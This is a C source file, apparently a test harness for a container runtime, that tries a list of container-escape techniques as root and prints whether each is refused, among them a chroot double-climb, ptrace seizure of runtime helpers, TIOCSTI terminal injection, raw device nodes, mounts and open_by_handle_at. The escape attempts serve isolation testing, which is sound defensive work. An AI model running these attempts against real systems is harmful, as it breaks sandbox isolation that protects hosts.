/*
 * Attacks from inside a container, as its root. `attacker <name> [argument]` prints `<name> refused <errno>` or
 * `<name> DONE`; each name is one attempt that must not succeed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <dirent.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <termios.h>
#include <unistd.h>

static long opened(const char *path, int flags)
{
	return open(path, flags);
}

static long raw_device(const char *major_minor)
{
	unsigned int major, minor;

	if (sscanf(major_minor, "%u:%u", &major, &minor) != 2)
		return 0;
	unlink("/tmp/device");
	if (mknod("/tmp/device", (major == 1 ? S_IFCHR : S_IFBLK) | 0600, makedev(major, minor)) < 0)
		return -1;
	return opened("/tmp/device", O_RDWR);
}

static int is_helper(pid_t pid)
{
	char path[64], name[64] = "";

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return readlink(path, name, sizeof(name) - 1) > 0 && (strstr(name, "memfd") || strstr(name, "berth"));
}

/* one that is the container's own by then is let go: its exit would wait for us */
static int seize_helper(pid_t pid)
{
	int found;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0))
		return 0;
	found = is_helper(pid);
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return found;
}

/* looks for a helper of the runtime among the next processes, until somebody says that it was enough */
static long ptrace_helper(void)
{
	for (pid_t seen = getpid(); access("/tmp/enough", F_OK);) {
		for (pid_t pid = seen + 1; pid < seen + 8; pid++) {
			if (is_helper(pid) || seize_helper(pid))
				return 0;
			if (kill(pid, 0) == 0)
				seen = pid;
		}
	}
	errno = EPERM;
	return -1;
}

/* a descriptor that leads to a folder outside of the root */
static long leaked_descriptor(void)
{
	struct stat root, st;
	char path[64];

	stat("/", &root);
	for (int fd = 3; fd < 1024; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../..", fd);
		if (fcntl(fd, F_GETFD) >= 0 || stat(path, &st) == 0)
			return 0;
	}
	errno = EBADF;
	return -1;
}

static long connected(const char *address)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(80) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd ready = { .fd = fd, .events = POLLOUT };
	int error = 0;
	socklen_t length = sizeof(error);

	inet_pton(AF_INET, address, &to.sin_addr);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 && errno != EINPROGRESS)
		return -1;
	if (poll(&ready, 1, 500) < 1) {
		errno = ETIMEDOUT;
		return -1;
	}
	getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
	errno = error;
	return error ? -1 : 0;
}

static long written(const char *path)
{
	int fd = open(path, O_WRONLY | O_TRUNC);

	return fd < 0 ? -1 : write(fd, "1", 1);
}

/* names of sessions of the host in /proc/keys would do as well; keyctl is the way in */
static long keyring(void)
{
	return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
}

/* the known way out of a root that is only changed: a second one below, and up past the first; then look for `path` */
static long climb(const char *path)
{
	if ((mkdir("/tmp/below", 0755) && errno != EEXIST) || chroot("/tmp/below"))
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return -1;
	return chroot(".") ? -1 : access(path, F_OK);
}

static long try(const char *name, const char *argument)
{
	if (!strcmp(name, "read"))
		return opened(argument, O_RDONLY);
	if (!strcmp(name, "write"))
		return written(argument);
	if (!strcmp(name, "device"))
		return raw_device(argument);
	if (!strcmp(name, "kill"))
		return kill(atoi(argument), 0);
	if (!strcmp(name, "connect"))
		return connected(argument);
	if (!strcmp(name, "keyring"))
		return keyring();
	if (!strcmp(name, "mount"))
		return mount("none", "/tmp", argument, 0, "");
	if (!strcmp(name, "bind"))
		return mount("/", "/tmp", NULL, MS_BIND, NULL);
	if (!strcmp(name, "remount"))
		return mount("none", argument, NULL, MS_REMOUNT | MS_BIND, NULL);
	if (!strcmp(name, "umount"))
		return umount2(argument, MNT_DETACH);
	if (!strcmp(name, "climb"))
		return climb(argument);
	if (!strcmp(name, "pivot"))
		return syscall(SYS_pivot_root, "/", "/tmp");
	if (!strcmp(name, "module"))
		return syscall(SYS_init_module, "", 0, "");
	if (!strcmp(name, "module-file"))
		return syscall(SYS_finit_module, 0, "", 0);
	if (!strcmp(name, "unshare"))
		return unshare(atoi(argument));
	if (!strcmp(name, "setns"))
		return setns(open(argument, O_RDONLY), 0);
	if (!strcmp(name, "io_uring"))
		return syscall(SYS_io_uring_setup, 1, (char[256]){ 0 });
	if (!strcmp(name, "userfaultfd"))
		return syscall(SYS_userfaultfd, 0);
	if (!strcmp(name, "handle"))
		return syscall(SYS_open_by_handle_at, 0, (char[64]){ 8 }, O_RDONLY);
	if (!strcmp(name, "tiocsti"))
		return ioctl(0, TIOCSTI, "#");
	if (!strcmp(name, "tioclinux"))
		return ioctl(0, TIOCLINUX, "\3");
	if (!strcmp(name, "subvolume")) /* BTRFS_IOC_SUBVOL_CREATE */
		return ioctl(open(argument, O_RDONLY), 0x5000940e, (char[4096]){ 0 });
	if (!strcmp(name, "hostname"))
		return sethostname("mine", 4);
	if (!strcmp(name, "reboot"))
		return syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL);
	if (!strcmp(name, "swapoff"))
		return syscall(SYS_swapoff, "/none");
	if (!strcmp(name, "clock"))
		return syscall(SYS_clock_settime, 0, (long[2]){ 1, 0 });
	if (!strcmp(name, "ptrace-helper"))
		return ptrace_helper();
	if (!strcmp(name, "ptrace"))
		return ptrace(PTRACE_SEIZE, atoi(argument), 0, 0);
	if (!strcmp(name, "descriptors"))
		return leaked_descriptor();
	if (!strcmp(name, "setuid-outside"))
		return setresuid(70000, 70000, 70000);
	errno = 0;
	return 0;
}

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i += 2) {
		long result = try(argv[i], argv[i + 1]);

		if (result < 0)
			printf("%s %s refused %d\n", argv[i], argv[i + 1], errno);
		else
			printf("%s %s DONE\n", argv[i], argv[i + 1]);
		fflush(stdout);
	}
	return 0;
}
